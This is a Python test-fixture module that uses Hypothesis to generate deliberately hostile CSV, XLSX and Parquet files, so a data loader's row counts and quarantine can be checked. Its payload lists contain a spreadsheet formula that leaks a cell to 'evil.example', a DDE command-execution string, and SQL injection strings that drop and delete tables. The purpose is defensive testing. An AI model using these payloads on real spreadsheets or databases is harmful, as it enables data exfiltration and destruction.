"""Hostile input for the reliability tests (issue 9): files of every format whose rows we
count ourselves, so the loader's counts can be checked against an independent truth.

A `Plan` is a table's header and its rows; every data row carries a unique marker in one
column, so each row can be found afterwards in the loaded table or in the quarantine.
Writers turn a plan into a CSV (any encoding, delimiter, line ending, with broken lines),
an XLSX workbook (typed cells, formulas, a title row) or a Parquet file, and return the
expected outcome: which markers load, which are quarantined (and on which line), and how
many blank lines and repeated headers the report must count.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from dataclasses import dataclass, field

from hypothesis import strategies as st

from fundwatch.contract.aliases import COLUMN_ALIASES
from fundwatch.contract.tables import TABLES
from tests.conftest import make_code, make_id

# --- the tables fuzzed, and the text column that carries each row's marker ----------------

MARKED = {
    "dibao_payments": "payment_id",
    "subsidy_payments": "payment_id",
    "civil_servants": "position",
    "housing_tenancies": "tenancy_id",
    "business_roles": "entity_name",
}


def marker(i: int) -> str:
    return f"MK{i:05d}Z"


MARKER_RE = r"MK[0-9]{5}Z"

# --- hostile text: loads as it is (text columns), must never run or break anything --------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
INJECTIONS = [
    "x'); DROP TABLE deaths; --",
    "'; DELETE FROM fw_runs; --",
    'a"b""c',
    "Robert'); DROP TABLE fw_quarantine;--",
    "\\'; SELECT 1; --",
    "1 OR 1=1",
    "$$; COPY fw_cases TO '/tmp/x'; $$",
]
ODD = [
    "张三",
    "王五\u3000",
    "emoji 😀 and RTL \u202eevil",
    "line\nbreak",
    "quote \" inside, and comma",
    "semi;colon|pipe\ttab",
    "back\\slash",
    "zero\u200bwidth",
    "null",  # a null word: read as empty
]
HOSTILE_TEXT = FORMULAS + INJECTIONS + ODD

huge_text = st.integers(min_value=140_000, max_value=200_000).map(lambda n: "H" * n)


def text_values(allow_huge: bool = True):
    options = [st.sampled_from(HOSTILE_TEXT), st.text(min_size=0, max_size=12)]
    if allow_huge:
        options.append(huge_text)
    return st.one_of(*options)


# --- values by kind: (cell, valid?) ------------------------------------------------------

_ids = [make_id(n, birth=b) for n, b in [(1, "19800101"), (2, "19650304"), (3, "19900707"), (4, "20010228")]]
_codes = [make_code(n) for n in (1, 2, 3)]


def _flip(code: str) -> str:
    return code[:-1] + ("1" if code[-1] != "1" else "2")


VALID = {
    "person_id": _ids + [f" {_ids[0]} ", _ids[1].lower(), _ids[2][:6] + " " + _ids[2][6:]],
    "credit_code": _codes + [_codes[0].lower()],
    "key": ["K1", "户-001", "A B", "P/2023/7", "00123"],
    "date": ["2023-03-05", "2023/3/5", "20230305", "2023年3月5日", "45000", "2023-03-05 00:00:00"],
    "period": ["2023-03", "202303", "2023/3", "2023-03-15", "2023年3月"],
    "money": ["1234.50", "1,234.50", "100元", "-20.5", " 7 ", "0"],
    "number": ["12.5", "3", "-1", "1e3"],
    "int": ["3", "4.0", "-2"],
    "region": ["110105", "110105001", "110105001002"],
    "account": ["6222021234567890123", "6217000010001234"],
}
INVALID = {
    "person_id": [_flip(_ids[0]), "110105800101123", "1.10105E+17", "ABC", "11010519801301001X"],
    "credit_code": [_flip(_codes[0]), "ABC"],
    "key": ["1.2E+17"],
    "date": ["2023-02-30", "2023-13-01", "yesterday", "2203-01-01", "12/31/2023"],
    "period": ["2023-13", "2023-00", "month"],
    "money": ["abc", "12.3.4", "1e5", "--5", "5-"],
    "number": ["abc", "x1"],
    "int": ["3.5", "abc"],
    "region": ["12345", "abc"],
    "account": ["6.22E+18"],
    "enum": ["boss", "领导"],
}
MISSING = ["", " ", "NULL", "n/a"]


def enum_values(spec):
    return [*spec.values, *(v.upper() for v in spec.values)]


@dataclass
class Cell:
    text: str  # as written to a CSV or a text cell
    valid: bool
    native: object = None  # a typed XLSX cell, when there is one


@st.composite
def cells(draw, spec, *, allow_huge=True):
    """One value for column `spec`: valid, invalid or missing."""
    kind = spec.kind
    if kind == "text":
        return Cell(draw(text_values(allow_huge)), True)
    choice = draw(st.sampled_from(["valid"] * 6 + ["invalid", "missing"]))
    if choice == "missing":
        return Cell(draw(st.sampled_from(MISSING)), not spec.required)
    if choice == "invalid" and kind in INVALID:
        return Cell(draw(st.sampled_from(INVALID[kind])), False)
    pool = enum_values(spec) if kind == "enum" else VALID[kind]
    return Cell(draw(st.sampled_from(pool)), True)


def native_cell(draw, spec, cell: Cell) -> Cell:
    """Sometimes the typed value Excel would hold instead of text (or a wrong type)."""
    kind = spec.kind
    pick = draw(st.integers(0, 3))
    if pick != 0:
        return cell
    if kind in ("date", "period") and cell.valid and cell.text.strip():
        return Cell(cell.text, True, draw(st.sampled_from([dt.datetime(2023, 3, 5), dt.date(2023, 3, 5), 45000])))
    if kind in ("money", "number") and cell.valid and cell.text.strip():
        return Cell(cell.text, True, draw(st.sampled_from([1234.5, 7, 0.3, -20])))
    if kind in ("money", "date"):  # a wrong type: a boolean where an amount or a date belongs
        return Cell(cell.text, False, True)
    if kind == "person_id":  # Excel turned the ID into a float: digits lost
        return Cell(cell.text, False, 1.10105198001010016e17)
    return cell


# --- a plan: header and rows -------------------------------------------------------------


@dataclass
class Row:
    cells: list[Cell]
    marker: str | None = None  # None for blank rows and repeated headers
    kind: str = "data"  # data | blank | header

    @property
    def valid(self) -> bool:
        return all(c.valid for c in self.cells)


@dataclass
class Plan:
    table: str
    columns: list[str]  # canonical column of each file column ("" for an unknown one)
    headers: list[str]
    rows: list[Row]
    error: str | None = None  # a LoadError we expect, naming the file (duplicate / missing column)
    hostile: dict[str, str] = field(default_factory=dict)  # marker -> text written in a text column


@st.composite
def plans(draw, table=None, *, allow_huge=True, min_rows=0, max_rows=12, allow_header_errors=True):
    table = table or draw(st.sampled_from(sorted(MARKED)))
    spec = TABLES[table]
    mark = MARKED[table]
    optional = [c.name for c in spec.columns if not c.required and c.name != mark]
    kept = draw(st.lists(st.sampled_from(optional), unique=True, max_size=len(optional))) if optional else []
    columns = [c.name for c in spec.columns if c.required or c.name in kept or c.name == mark]
    columns = draw(st.permutations(columns))
    headers = []
    for c in columns:
        aliases = [c, c.upper(), f" {c} "] + list(COLUMN_ALIASES.get(c, ()))
        headers.append(draw(st.sampled_from(aliases)))
    error = None
    if allow_header_errors:
        trouble = draw(st.sampled_from(["none"] * 8 + ["duplicate", "missing"]))
        required = [c for c in columns if spec.column(c).required and c != mark]
        if trouble == "duplicate":
            i = draw(st.integers(0, len(columns) - 1))
            columns.append(columns[i])
            headers.append(headers[i] if draw(st.booleans()) else columns[i])
            error = "both mean column"
        elif trouble == "missing" and required:
            gone = draw(st.sampled_from(required))
            i = columns.index(gone)
            del columns[i], headers[i]
            error = "missing required column"
    unknown = draw(st.lists(st.sampled_from(["备注", "x'); DROP TABLE deaths --", 'quo"te', "=cmd()", "a,b;c|d", "extra"]),
                            unique=True, max_size=2))
    for h in unknown:
        columns.append("")
        headers.append(h)
    n = draw(st.integers(min_rows, max_rows))
    rows: list[Row] = []
    hostile = {}
    for i in range(n):
        what = draw(st.sampled_from(["data"] * 10 + ["blank", "header"]))
        if what == "blank":
            rows.append(Row([Cell(draw(st.sampled_from(["", " ", "  "])), True) for _ in columns], kind="blank"))
            continue
        if what == "header":
            rows.append(Row([Cell(h, True) for h in headers], kind="header"))
            continue
        m = marker(i)
        row = []
        for c in columns:
            if c == mark:
                row.append(Cell(m, True))
            elif c == "":
                row.append(Cell(draw(text_values(False)), True))
            else:
                cell = draw(cells(TABLES[table].column(c), allow_huge=allow_huge))
                if TABLES[table].column(c).kind == "text" and cell.text.strip(" ") and m not in hostile:
                    hostile[m] = (c, cell.text)
                row.append(cell)
        rows.append(Row(row, m))
    return Plan(table, columns, headers, rows, error, hostile)


# --- the expected outcome ----------------------------------------------------------------


@dataclass
class Expected:
    loaded: set[str] = field(default_factory=set)
    quarantined: dict[str, int] = field(default_factory=dict)  # marker -> line
    unmarked: int = 0  # quarantined lines with no marker (a header or blank row an open quote swallowed)
    rows_read: int = 0
    blank: int = 0
    repeated_headers: int = 0
    error: str | None = None
    hostile: dict[str, tuple[str, str]] = field(default_factory=dict)

    def data_row(self, row: Row, line: int | None, *, broken: bool = False) -> None:
        self.rows_read += 1
        if broken or not row.valid:
            self.quarantined[row.marker] = line
        else:
            self.loaded.add(row.marker)


def is_blank(row: Row) -> bool:
    return all(c.text.strip(" ") == "" for c in row.cells)


# --- CSV ---------------------------------------------------------------------------------


@dataclass
class CsvStyle:
    encoding: str = "utf-8"
    delimiter: str = ","
    newline: str = "\n"
    leading_blank_lines: int = 0
    corruptions: dict[int, str] = field(default_factory=dict)  # row index -> corruption


CORRUPTIONS = ["extra_field", "missing_field", "blank_line", "whitespace_line", "open_quote"]


@st.composite
def csv_styles(draw, plan: Plan):
    style = CsvStyle(
        encoding=draw(st.sampled_from(["utf-8", "utf-8-sig", "gbk", "gb18030"])),
        delimiter=draw(st.sampled_from([",", "\t", ";", "|"])),
        newline=draw(st.sampled_from(["\n", "\r\n"])),
        leading_blank_lines=draw(st.integers(0, 2)),
    )
    for i, row in enumerate(plan.rows):
        if row.kind == "data" and draw(st.integers(0, 7)) == 0:
            style.corruptions[i] = draw(st.sampled_from(CORRUPTIONS))
    opens = sorted(i for i, c in style.corruptions.items() if c == "open_quote")
    for i in opens[1:]:  # one open quote swallows the rest of the file: one is enough
        del style.corruptions[i]
    return style


_QUOTING_CHARS = "\"\r\n,\t;|"


def _plain(text: str) -> str:
    return "".join("_" if ch in _QUOTING_CHARS else ch for ch in text)


def write_csv(plan: Plan, style: CsvStyle) -> tuple[bytes, Expected]:
    """The file's bytes and what loading it must give."""
    exp = Expected(error=plan.error)
    d, nl = style.delimiter, style.newline
    encoding = style.encoding
    texts = [h for h in plan.headers] + [c.text for r in plan.rows for c in r.cells]
    if encoding == "gbk" and not all(_encodes(t, "gbk") for t in texts):
        encoding = "gb18030"

    def line_of(values) -> str:
        buf = io.StringIO()
        # The terminator decides what gets quoted: CR and LF must, so it is CRLF, cut off after.
        csv.writer(buf, delimiter=d, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL).writerow(values)
        return buf.getvalue()[:-2]

    headers = list(plan.headers)  # quoted where they hold a quote or a delimiter
    out = [""] * style.leading_blank_lines + [line_of(headers)]
    line = len(out)  # physical lines so far (1-based number of the last one)
    opened = min((i for i, c in style.corruptions.items() if c == "open_quote"), default=None)
    for i, row in enumerate(plan.rows):
        values = [c.text for c in row.cells] if row.kind != "header" else headers
        if opened is not None and i > opened:
            values = [_plain(v) for v in values]  # no quote after the open one may close it
        text = line_of(values)
        corruption = style.corruptions.get(i)
        if opened is not None and i > opened:
            # Swallowed by the open quote: every line is kept as a quarantined row (a blank one
            # stays blank), headers included.
            for part in text.split("\n"):
                line += 1
                if part.strip() == "":
                    exp.blank += 1
                else:
                    exp.rows_read += 1
                    if row.marker:
                        exp.quarantined[row.marker] = line
                    else:
                        exp.unmarked += 1
            out.append(text)
            continue
        if row.kind == "blank":
            exp.blank += 1
            line += 1
            out.append(text)
            continue
        if row.kind == "header":
            exp.rows_read += 1
            exp.repeated_headers += 1
            line += 1
            out.append(text)
            continue
        start = line + 1
        if corruption == "extra_field":
            text += d + "surplus"
        elif corruption == "missing_field":
            # Drop a field that is not the marker, so the quarantined line still shows it.
            j = max(k for k, c in enumerate(row.cells) if c.text != row.marker)
            text = line_of(values[:j] + values[j + 1:])
        elif corruption in ("blank_line", "whitespace_line"):
            out.append("" if corruption == "blank_line" else "   ")
            line += 1
            exp.blank += 1
            start = line + 1
        elif corruption == "open_quote":
            j = row.cells.index(next(c for c in row.cells if c.text == row.marker))
            values = [_plain(v) for v in values]
            values[j] = '"' + values[j]
            text = d.join(values)
        out.append(text)
        line += text.count("\n") + 1
        broken = corruption in ("extra_field", "missing_field", "open_quote")
        exp.data_row(row, start, broken=broken)
        if not broken and row.marker in plan.hostile:
            exp.hostile[row.marker] = plan.hostile[row.marker]
    data = nl.join(out) + nl
    return data.encode(encoding), exp


def _encodes(text: str, encoding: str) -> bool:
    try:
        text.encode(encoding)
    except UnicodeEncodeError:
        return False
    return True


# --- XLSX --------------------------------------------------------------------------------

_ILLEGAL = {chr(c) for c in range(32) if chr(c) not in "\t\n\r"}


def _xlsx_text(text: str) -> str:
    return "".join(ch for ch in text if ch not in _ILLEGAL)[:32_000]


def write_xlsx(plan: Plan, draw, path) -> Expected:
    from openpyxl import Workbook

    exp = Expected(error=plan.error)
    wb = Workbook()
    ws = wb.active
    rowno = 0
    if draw(st.booleans()):
        ws.append(["2023年 发放明细 (导出)"])  # a title row: one cell, counted as blank
        rowno += 1
        exp.blank += 1
    ws.append(plan.headers)
    rowno += 1
    for row in plan.rows:
        rowno += 1
        if row.kind == "blank":
            ws.append([None] * len(row.cells))  # openpyxl keeps the empty cells: the row is read
            exp.blank += 1
            continue
        if row.kind == "header":
            ws.append(plan.headers)
            exp.rows_read += 1
            exp.repeated_headers += 1
            continue
        values, valid = [], True
        for c, cell in zip(plan.columns, row.cells, strict=True):
            if c and cell.text != row.marker:
                cell = native_cell(draw, TABLES[plan.table].column(c), cell)
            valid &= cell.valid
            if cell.native is not None:
                values.append(cell.native)
            else:
                text = _xlsx_text(cell.text)
                values.append(text if text != "" else None)
        extra = draw(st.integers(0, 9)) == 0
        if extra:
            values += [None, "beyond the header"]
        ws.append(values)
        exp.rows_read += 1
        if extra or not valid:
            exp.quarantined[row.marker] = rowno
        else:
            exp.loaded.add(row.marker)
    wb.save(path)
    return exp


# --- Parquet -----------------------------------------------------------------------------


def write_parquet(plan: Plan, path) -> Expected:
    import pyarrow as pa
    import pyarrow.parquet as pq

    exp = Expected(error=plan.error)
    columns = [[] for _ in plan.headers]
    for k, row in enumerate(plan.rows, start=1):
        values = [c.text for c in row.cells] if row.kind != "header" else list(plan.headers)
        for j, v in enumerate(values):
            columns[j].append(None if row.kind == "blank" else v)
        if row.kind == "blank":
            exp.blank += 1
        elif row.kind == "header":
            exp.rows_read += 1
            exp.repeated_headers += 1
        else:
            exp.data_row(row, k)
            if row.valid and row.marker in plan.hostile:
                exp.hostile[row.marker] = plan.hostile[row.marker]
    table = pa.Table.from_arrays([pa.array(c, type=pa.string()) for c in columns], names=list(plan.headers))
    pq.write_table(table, path)
    return exp
